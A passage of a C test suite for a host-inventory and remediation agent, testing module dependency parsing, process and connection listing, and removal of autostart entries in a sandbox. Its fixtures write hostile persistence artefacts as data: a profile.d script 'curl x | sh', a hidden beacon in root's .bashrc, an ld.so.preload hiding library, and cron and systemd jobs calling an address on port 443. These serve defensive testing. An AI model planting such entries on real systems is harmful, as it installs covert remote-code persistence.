              "kernel/sound/snd-hda-intel.ko: kernel/sound/snd.ko\n/abs/path/odd.ko:\nnot a module line\n") == 0);
    CHECK(kmodinfo_dep_load(dir, "9.9.9-test", &d) == 0);
    CHECK_STR(kmodinfo_dep_path(d, "snd_hda_intel"), "/lib/modules/9.9.9-test/kernel/sound/snd-hda-intel.ko");
    CHECK_STR(kmodinfo_dep_path(d, "odd"), "/abs/path/odd.ko");
    CHECK(kmodinfo_dep_path(d, "snd") == NULL);
    kmodinfo_dep_free(d);
    CHECK_INT(kmodinfo_dep_load(dir, "0.0-none", &d), ==, -ENOENT);
    rm_tree(dir);
}

/* ------------------------------------------------------------ processes */

static pid_t probe = -1;
static char probe_dir[64];

static void stop_probe(void)
{
    if (probe > 0) {
        kill(probe, SIGKILL);
        waitpid(probe, NULL, 0);
        probe = -1;
    }
    if (probe_dir[0]) {
        rm_tree(probe_dir);
        probe_dir[0] = '\0';
    }
}

/* Starts a copy of sleep named yamori-inv-probe; waits until it exec'd. */
static int start_probe(char *image, size_t len)
{
    char src[] = "/bin/sleep";
    int in, out;
    char buf[65536];
    ssize_t r;

    snprintf(probe_dir, sizeof(probe_dir), "/tmp/yamori-probe.XXXXXX");
    if (!mkdtemp(probe_dir))
        return -1;
    snprintf(image, len, "%s/yamori-inv-probe", probe_dir);
    in = open(src, O_RDONLY | O_CLOEXEC);
    out = open(image, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    if (in < 0 || out < 0)
        return -1;
    while ((r = read(in, buf, sizeof(buf))) > 0)
        if (write(out, buf, (size_t)r) != r)
            return -1;
    close(in);
    close(out);
    probe = fork();
    if (probe == 0) {
        execl(image, "yamori-inv-probe", "3600", (char *)NULL);
        _exit(127);
    }
    for (int i = 0; i < 500; i++) { /* until /proc shows the new image */
        char exe[PATH_MAX], p[64];
        ssize_t n;
        snprintf(p, sizeof(p), "/proc/%d/exe", (int)probe);
        n = readlink(p, exe, sizeof(exe) - 1);
        if (n > 0 && (exe[n] = '\0', strcmp(exe, image) == 0))
            return 0;
        usleep(10000);
    }
    return -1;
}

static void processes_child(void)
{
    char image[128], err[512], args[128], expect_uid[64], p[64], *stat = NULL, boot[40] = "";
    json_t *out, *r;
    size_t len;
    unsigned long long ticks = 0;
    int fd;

    CHECK(start_probe(image, sizeof(image)) == 0);
    out = live(live_processes, "{}", err, sizeof(err));
    CHECK_MSG(out, "processes: %s", err);
    CHECK_MSG((r = row_int(out, "pid", probe)), "the child %d is not listed", (int)probe);
    CHECK_INT(json_integer_value(json_object_get(r, "ppid")), ==, getpid());
    CHECK_STR(str(r, "image"), image);
    {
        char cl[256];
        snprintf(cl, sizeof(cl), "yamori-inv-probe 3600");
        CHECK_STR(str(r, "command_line"), cl);
    }
    CHECK_STR(str(r, "user"), "root");
    CHECK(json_is_null(json_object_get(r, "container")));
    CHECK(str(r, "start") && strlen(str(r, "start")) == 30 && str(r, "start")[10] == 'T');
    /* the process id of docs/events.md, from what the kernel says */
    snprintf(p, sizeof(p), "/proc/%d/stat", (int)probe);
    CHECK(hostinv_read_file(p, 4096, false, &stat, &len, NULL) == 0);
    sscanf(strrchr(stat, ')') + 2, "%*c %*d %*d %*d %*d %*d %*u %*u %*u %*u %*u %*u %*u %*d %*d %*d %*d %*d %*d %llu",
           &ticks);
    free(stat);
    fd = open("/proc/sys/kernel/random/boot_id", O_RDONLY | O_CLOEXEC);
    CHECK(fd >= 0 && read(fd, boot, 8) == 8);
    close(fd);
    snprintf(expect_uid, sizeof(expect_uid), "%.8s-%d-%llu", boot, (int)probe, ticks);
    CHECK_STR(str(r, "process_uid"), expect_uid);
    CHECK_STR(json_string_value(json_array_get(json_object_get(out, "columns"), 6)), "process_uid");
    json_decref(out);

    /* -name: the image's file name, case-insensitive */
    out = live(live_processes, "{\"name\": \"INV-PROBE\"}", err, sizeof(err));
    CHECK_MSG(out, "processes -name: %s", err);
    CHECK_INT(json_array_size(json_object_get(out, "rows")), ==, 1);
    CHECK(row_int(out, "pid", probe));
    json_decref(out);
    out = live(live_processes, "{\"name\": \"no-such-image-name-here\"}", err, sizeof(err));
    CHECK(out && json_array_size(json_object_get(out, "rows")) == 0);
    json_decref(out);

    /* -pid: that one */
    snprintf(args, sizeof(args), "{\"pid\": %d}", (int)probe);
    out = live(live_processes, args, err, sizeof(err));
    CHECK_MSG(out, "processes -pid: %s", err);
    CHECK_INT(json_array_size(json_object_get(out, "rows")), ==, 1);
    CHECK(row_int(out, "pid", probe));
    json_decref(out);

    /* -pid -tree: its ancestors, it, what is below it, in tree order */
    snprintf(args, sizeof(args), "{\"pid\": %d, \"tree\": true}", (int)getpid());
    out = live(live_processes, args, err, sizeof(err));
    CHECK_MSG(out, "processes -pid -tree: %s", err);
    {
        json_t *me = row_int(out, "pid", getpid()), *child = row_int(out, "pid", probe), *parent = row_int(out, "pid", getppid());
        size_t i, at_me = 0, at_child = 0;
        json_t *x;
        CHECK(me && child && parent);
        CHECK_STR(json_string_value(json_array_get(json_object_get(out, "columns"), 0)), "depth");
        CHECK_INT(json_integer_value(json_object_get(child, "depth")), ==,
                  json_integer_value(json_object_get(me, "depth")) + 1);
        CHECK_INT(json_integer_value(json_object_get(me, "depth")), ==,
                  json_integer_value(json_object_get(parent, "depth")) + 1);
        json_array_foreach(json_object_get(out, "rows"), i, x)
        {
            if (x == me)
                at_me = i;
            if (x == child)
                at_child = i;
            /* nothing unrelated: every row is an ancestor of the test or below it */
        }
        CHECK(at_child > at_me);
        CHECK_MSG(json_array_size(json_object_get(out, "rows")) <= 40, "unrelated processes in the tree (%zu rows)",
                  json_array_size(json_object_get(out, "rows")));
    }
    json_decref(out);

    /* a pid that does not run */
    out = live(live_processes, "{\"pid\": 2147483600}", err, sizeof(err));
    CHECK(!out && strstr(err, "no process with pid 2147483600"));
    stop_probe();
}

/* ------------------------------------------------------------ connections */

static pid_t listener = -1;

static void stop_listener(void)
{
    if (listener > 0) {
        kill(listener, SIGKILL);
        waitpid(listener, NULL, 0);
        listener = -1;
    }
}

static void teardown(void)
{
    stop_probe();
    stop_listener();
}

/* In a child in a network namespace of its own: lo up, a TCP listener on
 * 127.0.0.1:port and a UDP socket on 127.0.0.1:port+1; says "1" when ready. */
static int start_listener(unsigned port)
{
    int p[2];
    char c = 0;

    if (pipe(p) != 0)
        return -1;
    listener = fork();
    if (listener == 0) {
        struct ifreq ifr = {0};
        struct sockaddr_in a = {.sin_family = AF_INET};
        int s = -1, t, u, one = 1;
        close(p[0]);
        if (unshare(CLONE_NEWNET) != 0 || (s = socket(AF_INET, SOCK_DGRAM, 0)) < 0)
            _exit(1);
        snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "lo");
        ifr.ifr_flags = IFF_UP | IFF_LOOPBACK | IFF_RUNNING;
        if (ioctl(s, SIOCSIFFLAGS, &ifr) != 0)
            _exit(2);
        close(s);
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        a.sin_port = htons((uint16_t)port);
        t = socket(AF_INET, SOCK_STREAM, 0);
        setsockopt(t, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
        if (bind(t, (struct sockaddr *)&a, sizeof(a)) != 0 || listen(t, 4) != 0)
            _exit(3);
        a.sin_port = htons((uint16_t)(port + 1));
        u = socket(AF_INET, SOCK_DGRAM, 0);
        if (bind(u, (struct sockaddr *)&a, sizeof(a)) != 0)
            _exit(4);
        if (write(p[1], "1", 1) != 1)
            _exit(5);
        pause();
        _exit(0);
    }
    close(p[1]);
    if (read(p[0], &c, 1) != 1)
        c = 0;
    close(p[0]);
    return c == '1' ? 0 : -1;
}

static void connections_listener(void)
{
    char err[512], want[64], self_ns[64], exe[PATH_MAX];
    json_t *out, *r;
    unsigned port = 40000 + (unsigned)(getpid() % 20000);
    ssize_t n;

    if (!check_is_root())
        SKIP("needs root (a network namespace)");
    CHECK_MSG(start_listener(port) == 0, "the listener could not start in its namespace");
    out = live(live_connections, "{}", err, sizeof(err));
    CHECK_MSG(out, "connections: %s", err);
    snprintf(want, sizeof(want), "127.0.0.1:%u", port);
    CHECK_MSG((r = row_str(out, "local", want)), "no socket on %s", want);
    CHECK_STR(str(r, "protocol"), "tcp");
    CHECK_STR(str(r, "state"), "LISTEN");
    CHECK_STR(str(r, "remote"), "0.0.0.0:0");
    CHECK_INT(json_integer_value(json_object_get(r, "pid")), ==, listener);
    n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
    CHECK(n > 0);
    exe[n] = '\0';
    CHECK_STR(str(r, "image"), exe);
    CHECK_STR(str(r, "user"), "root");
    /* found in the child's namespace, not ours */
    n = readlink("/proc/self/ns/net", self_ns, sizeof(self_ns) - 1);
    CHECK(n > 0);
    self_ns[n] = '\0';
    CHECK(json_integer_value(json_object_get(r, "netns")) != (json_int_t)strtoull(self_ns + 5, NULL, 10));
    CHECK(json_integer_value(json_object_get(out, "network_namespaces")) >= 2);
    snprintf(want, sizeof(want), "127.0.0.1:%u", port + 1);
    CHECK_MSG((r = row_str(out, "local", want)), "no UDP socket on %s", want);
    CHECK_STR(str(r, "protocol"), "udp");
    CHECK_STR(str(r, "state"), "UNCONN");
    CHECK_INT(json_integer_value(json_object_get(r, "pid")), ==, listener);
    json_decref(out);
    stop_listener();
}

/* ------------------------------------------------------------ sandboxed on the machine's own paths */

/* In the sandbox: the removal backups go to its tmpfs on /run. */
static void state_in_sandbox(void)
{
    CHECK_MSG(mkdir("/run/yamori-state", 0700) == 0, "cannot make the sandbox: /run/yamori-state: %s",
              strerror(errno));
    remfs_set_state_dir("/run/yamori-state");
}

static const char *const emptied[] = {"/etc", "/root", "/home", "/var/spool", "/run", NULL};

/* These cases run in a child with tmpfs over the places autostart reads
 * and remediation writes. */
static const struct sandbox_options sandbox = {
    .needs = "a mount namespace",
    .tmpfs = emptied,
    .setup = state_in_sandbox,
};

/* An entry as what it is, not by id (ids by line number move when a line
 * above goes). */
static void describe(const struct autostart_entry *e, char *out, size_t len)
{
    snprintf(out, len, "%s|%s|%s|%s", e->category, e->source, e->command ? e->command : "",
             e->schedule ? e->schedule : "");
}

static int count_described(const struct autostart_entry *v, size_t n, const char *d)
{
    char x[8192];
    int k = 0;
    for (size_t i = 0; i < n; i++) {
        describe(&v[i], x, sizeof(x));
        k += strcmp(x, d) == 0;
    }
    return k;
}

static void body_remove_each(void)
{
    static const char *const ids[] = {"crontab:2", "awsd", "multi:2", "crontab-alice:1", "cron.daily/backup",
                                      "awsd.service", "clean.timer", "rc.local:2", "profile.d/evil.sh",
                                      "root-.bashrc:2", "root-authorized_keys:2", "ld.so.preload:1", NULL};
    char err[512];

    CHECK(put("", "/etc/crontab", "SHELL=/bin/sh\n@reboot root /usr/lib/runtime\n*/5 * * * * root /bin/tick\n") == 0);
    CHECK(put("", "/etc/cron.d/awsd", "@reboot root /usr/lib/runtime 10.0.0.9 443\n") == 0);
    CHECK(put("", "/etc/cron.d/multi", "1 * * * * root /bin/one\n2 * * * * root /bin/two\n3 * * * * root /bin/three\n") == 0);
    CHECK(put("", "/var/spool/cron/crontabs/alice", "@hourly /home/alice/a.sh\n@daily /home/alice/b.sh\n") == 0);
    CHECK(put("", "/etc/cron.daily/backup", "#!/bin/sh\n") == 0);
    CHECK(put("", "/etc/systemd/system/awsd.service", "[Service]\nExecStart=/usr/lib/runtime\n[Install]\nWantedBy=multi-user.target\n") == 0);
    CHECK(link_at("", "/etc/systemd/system/awsd.service", "/etc/systemd/system/multi-user.target.wants/awsd.service") == 0);
    CHECK(put("", "/etc/systemd/system/clean.timer", "[Timer]\nOnCalendar=daily\n") == 0);
    CHECK(put("", "/etc/systemd/system/clean.service", "[Service]\nExecStart=/bin/clean\n") == 0);
    CHECK(link_at("", "/etc/systemd/system/clean.timer", "/etc/systemd/system/timers.target.wants/clean.timer") == 0);
    CHECK(put("", "/etc/rc.local", "#!/bin/sh\n/opt/a.sh\n/opt/b.sh\nexit 0\n") == 0);
    CHECK(put("", "/etc/profile.d/evil.sh", "curl x | sh\n") == 0);
    CHECK(put("", "/root/.bashrc", "alias l=ls\n/tmp/.x/beacon\nalias ll='ls -l'\n") == 0);
    CHECK(put("", "/root/.ssh/authorized_keys", OWNER_KEY "\n" GATE_KEY "\n") == 0);
    CHECK(put("", "/etc/ld.so.preload", "/lib/libhide.so\n") == 0);

    for (const char *const *id = ids; *id; id++) {
        struct autostart_entry *before = NULL, *after = NULL;
        size_t nb = 0, na = 0;
        const struct autostart_entry *e;
        struct remediate_result res;
        char gone[8192];

        CHECK_MSG(autostart_list(&before, &nb, "", err, sizeof(err)) == 0, "%s", err);
        CHECK_MSG((e = autostart_find(before, nb, *id)), "no entry %s before its removal", *id);
        CHECK_MSG(e->remove_kind, "%s has no removal", *id);
        describe(e, gone, sizeof(gone));
        CHECK_MSG(remediate_remove("/run/yamori-state/backups", e->remove_kind, e->remove_path, e->remove_match,
                                   "test", &res, err, sizeof(err)) == 0,
                  "removing %s (%s %s %s): %s", *id, e->remove_kind, e->remove_path ? e->remove_path : "-",
                  e->remove_match ? e->remove_match : "-", err);
        remediate_result_free(&res);
        CHECK_MSG(autostart_list(&after, &na, "", err, sizeof(err)) == 0, "%s", err);
        /* exactly that entry is gone: every other one is still there */
        CHECK_MSG(count_described(after, na, gone) == 0, "%s is still listed after its removal", *id);
        CHECK_MSG(na == nb - 1, "removing %s took %zu entries", *id, nb - na);
        for (size_t i = 0; i < nb; i++) {
            char d[8192];
            describe(&before[i], d, sizeof(d));
            if (strcmp(d, gone) != 0)
                CHECK_MSG(count_described(after, na, d) == count_described(before, nb, d),
                          "removing %s also removed %s", *id, before[i].id);
        }
        autostart_free(before, nb);
        autostart_free(after, na);
    }
}

static void remove_each_exactly(void)
{
    sandbox_run(&sandbox, body_remove_each);
}

static void body_live_tables(void)
{
    char err[512];
    json_t *out, *r;

    CHECK(put("", "/etc/cron.d/awsd", "@reboot root /usr/lib/runtime 10.0.0.9 443\n") == 0);
    CHECK(put("", "/etc/rc.local", "#!/bin/sh\n/opt/a.sh\n") == 0);
    CHECK(put("", "/etc/systemd/system/awsd.service",
              "[Unit]\nDescription=AWS daemon\n[Service]\nExecStart=/usr/lib/runtime 10.0.0.9 443\n"
              "[Install]\nWantedBy=multi-user.target\n") == 0);
    CHECK(link_at("", "/etc/systemd/system/awsd.service", "/etc/systemd/system/multi-user.target.wants/awsd.service") == 0);
    CHECK(put("", "/etc/systemd/system/off.service", "[Service]\nExecStart=/bin/off\n[Install]\nWantedBy=x.target\n") == 0);

    out = live(live_scheduledtasks, "{}", err, sizeof(err));
    CHECK_MSG(out, "scheduledtasks: %s", err);
    CHECK((r = row_str(out, "id", "awsd")));
    CHECK_STR(str(r, "category"), "cron");
    CHECK_STR(str(r, "schedule"), "@reboot");
    CHECK_STR(str(r, "target"), "/usr/lib/runtime");
    CHECK_STR(str(r, "source"), "/etc/cron.d/awsd");
    CHECK(json_is_true(json_object_get(r, "removable")));
    CHECK_MSG(!row_str(out, "id", "rc.local:2") && !row_str(out, "id", "awsd.service"),
              "scheduledtasks lists what is not scheduled");
    CHECK_STR(json_string_value(json_array_get(json_object_get(out, "columns"), 0)), "id");
    json_decref(out);

    out = live(live_persistence, "{}", err, sizeof(err));
    CHECK_MSG(out, "persistence: %s", err);
    CHECK(row_str(out, "id", "awsd") && row_str(out, "id", "awsd.service"));
    CHECK((r = row_str(out, "id", "rc.local:2")) && strcmp(str(r, "category"), "rc.local") == 0);
    CHECK_INT(json_integer_value(json_object_get(r, "line")), ==, 2);
    json_decref(out);

    /* services: the files, whether enabled; no systemd here (tmpfs on /run) */
    out = live(live_services, "{}", err, sizeof(err));
    CHECK_MSG(out, "services: %s", err);
    CHECK((r = row_str(out, "name", "awsd.service")));
    CHECK_STR(str(r, "enabled"), "enabled");
    CHECK_STR(str(r, "active"), "unknown (systemd not running)");
    CHECK_STR(str(r, "description"), "AWS daemon");
    CHECK_STR(str(r, "exec_start"), "/usr/lib/runtime 10.0.0.9 443");
    CHECK_STR(str(r, "path"), "/etc/systemd/system/awsd.service");
    CHECK((r = row_str(out, "name", "off.service")) && strcmp(str(r, "enabled"), "disabled") == 0);
    CHECK(strncmp(str(out, "service_manager"), "not systemd", 11) == 0);
    json_decref(out);
}

static void live_tables(void)
{
    sandbox_run(&sandbox, body_live_tables);
}

int main(int argc, char **argv)
{
    static const struct check_case cases[] = {
        {"autostart_every_kind", autostart_every_kind},
        {"autostart_bad_root", autostart_bad_root},
        {"unit_files", unit_files},
        {"modules_fixture", modules_fixture},
        {"drivers_real", drivers_real},
        {"module_signer", module_signer},
        {"processes_child", processes_child},
        {"connections_listener", connections_listener},
        {"remove_each_exactly", remove_each_exactly},
        {"live_tables", live_tables},
        {NULL, NULL},
    };
    check_set_teardown(teardown);
    return check_main("agent/live_inventory", cases, argc, argv);
}
